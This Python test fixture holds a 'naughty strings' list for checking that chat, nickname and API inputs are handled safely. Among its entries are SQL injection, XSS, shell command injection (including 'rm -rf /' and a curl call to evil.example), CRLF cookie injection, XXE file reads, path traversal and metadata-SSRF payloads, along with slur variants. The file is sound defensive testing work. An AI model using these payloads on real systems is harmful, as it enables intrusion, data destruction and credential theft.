"""Our own "big list of naughty strings": text that has broken parsers, databases, terminals and
browsers. Every string must travel through chat text, nicknames, report comments and API fields
and come out either processed or refused with a reason (never a crash, never executed)."""

from __future__ import annotations

SQL_INJECTION = [
    "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE findings; --", "\"; DROP TABLE cases; --",
    "1; DELETE FROM sanctions", "' UNION SELECT token_hash FROM api_tokens --", "admin'--",
    "1' AND SLEEP(5)#", "'; SELECT pg_sleep(5); --", "') OR ('a'='a", "%' OR '%'='", "\\'; --",
    "' OR ''='", "1 OR 1=1", "x' AND 1=(SELECT COUNT(*) FROM users); --", "';shutdown --",
    "' || (SELECT password_hash FROM users LIMIT 1) || '", "0x27206f7220313d31",
    "'; COPY findings TO '/tmp/x'; --", "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
]
XSS = [
    "<script>window.__xss=1</script>", "<img src=x onerror=window.__xss=1>", "<svg onload=window.__xss=1>",
    "\"><script>window.__xss=1</script>", "'><img src=x onerror=alert(1)>", "javascript:alert(1)",
    "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "{{7*7}}", "${7*7}", "<%= 7*7 %>",
    "{% raw %}{{ config }}{% endraw %}", "<style>*{display:none}</style>", "<meta http-equiv=refresh content=0>",
    "<object data=javascript:alert(1)>", "<details open ontoggle=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "\"onmouseover=\"alert(1)", "`-alert(1)-`",
    "<base href=//evil.example/>", "<form action=//evil.example><input name=q></form>",
]
BIDI_AND_INVISIBLE = [
    "\u202egnp.exe", "abc\u202edef\u202c", "\u200b", "a\u200bb\u200cc\u200dd", "\ufeffBOM at start",
    "\u2066isolate\u2069", "\u061c arabic mark", "\u00ad soft hyphen", "\u2028line separator\u2029",
    "\u180e mongolian vowel sep", "\u3164", "\u115f\u1160", "\u00a0\u2000\u2001\u2002\u3000",
    "RTL: \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627", "\u200f\u200e",
]
EMOJI = [
    "👨‍👩‍👧‍👦", "🏳️‍🌈", "👩🏽‍🚀", "🇭🇺🇺🇦", "🃏♠️♥️♦️♣️", "😀" * 200, "🧑🏿‍🤝‍🧑🏻", "#️⃣", "\U0001f9d1\u200d\U0001f4bb",
    "🤬🤬🤬 kys 🤬", "\U000e0067\U000e0062", "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
]
NUMBERS = [
    "1e309", "-1e309", "NaN", "Infinity", "-0", "0x7fffffffffffffff", "99999999999999999999999999999",
    "9" * 500, "1/0", "0.1+0.2", "-2147483649", "18446744073709551616", "1_000", "٣", "Ⅻ", "𝟗",
]
FORMAT_STRINGS = [
    "%s%s%s%s%s", "%n%n%n", "%x" * 20, "{0}{1}{2}", "{__class__}", "{.__init__.__globals__}", "%(password)s",
    "$(reboot)", "`rm -rf /`", "; ls -la", "| cat /etc/passwd", "&& curl evil.example", "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07", "\r\nSet-Cookie: rb_session=stolen", "\r\n\r\nHTTP/1.1 200 OK",
]
CONTROL = [
    "\x00", "nul\x00in the middle", "\x00" * 10, "\x01\x02\x03\x04\x05\x06\x07\x08", "\x7f", "\t\n\r\x0b\x0c",
    "\ud800", "\udfff", "\ud83d", "a\udc00b", "\\u0000", "\\ud800", "\\x00", "\u0085", "\ufffe\uffff",
]
ZALGO = [
    "Z̵̡̢̛͕̮̟̪͔̻̮͎̙̗̳͚̞͓̳̣̮̗̣͉͉̄̀̇̊̓̈́́͋̋̋̆̏͋̀̈́́̈́́̄̒͘͝͝a̸̧̙̪̱̞̱̲̦̟̹̭̙͔̯̐̓̐̿̾̈́̾̏̍̈́̄͂̋̔̕͠ͅl̷̢̧̛̛̪̟̥̞̮̳̭̮̻̙̩͎͉̗̼̯̖̖̲͖̫̾̀̎̏͋̀̂̓̃͋̎͌̌̉͛̈́̕͝ġ̶̜̞̬̖̞̫̗̭͋͐̊̂̈́́̈́̋̋̇̏͌̃́̀͛̑̓̿̕͝͠o̷̧̧̞̗̮̝̪̖̲̹͍̖̠̤͍̩̙̬̩̿̅̀̈́͐̂͊͌̈́̈́̏̆̔͊̊̓̀̄͋̒̉̚͘͝͝",
    "e" + "\u0301" * 300, "a" + "".join(chr(0x300 + i) for i in range(112)),
]
SCRIPTS = [
    "Ελληνικά", "Русский текст", "中文字符", "日本語のテキスト", "한국어", "हिन्दी", "ไทย", "ქართული", "Ꭰ Cherokee",
    "𝕳𝖊𝖑𝖑𝖔", "ｆｕｌｌｗｉｄｔｈ", "ʇxǝʇ uʍop ǝpısdn", "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "œ∑´®†¥¨ˆøπ“‘",
    "Ｋ𝐲𝐬 you", "k y s", "k.y.s", "ky$", "кys", "retard" + "\u200b", "r\u00e9tard", "RETARD!!!",
]
STRUCTURED = [
    "", " ", "  \t  ", "null", "None", "undefined", "true", "false", "[]", "{}", "{\"a\":", "[[[[[[[[[[",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/shadow", "http://169.254.169.254/latest/",
    "CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "A" * 64, "A" * 65, "B" * 2000, "C" * 2001,
    "https://evil.example/?q=" + "x" * 100, "mailto:a@b.c", "data:text/html,<script>alert(1)</script>",
    "\"quoted\"", "'single'", "back\\slash", "tab\there", "new\nline", "a" * 10 + "\n" * 50,
]
_NAMED = (SQL_INJECTION + XSS + BIDI_AND_INVISIBLE + EMOJI + NUMBERS + FORMAT_STRINGS + CONTROL + ZALGO
          + SCRIPTS + STRUCTURED)
NAUGHTY: list[str] = list(dict.fromkeys(_NAMED + [f"gg {s} gg" for s in (XSS[:10] + SQL_INJECTION[:10])]))
"""Every naughty string once (about 200)."""


def storable(text: str) -> bool:
    """False for text no JSON/UTF-8 store can hold as-is: NUL and unpaired surrogates."""
    return "\x00" not in text and not any(0xD800 <= ord(c) <= 0xDFFF for c in text)
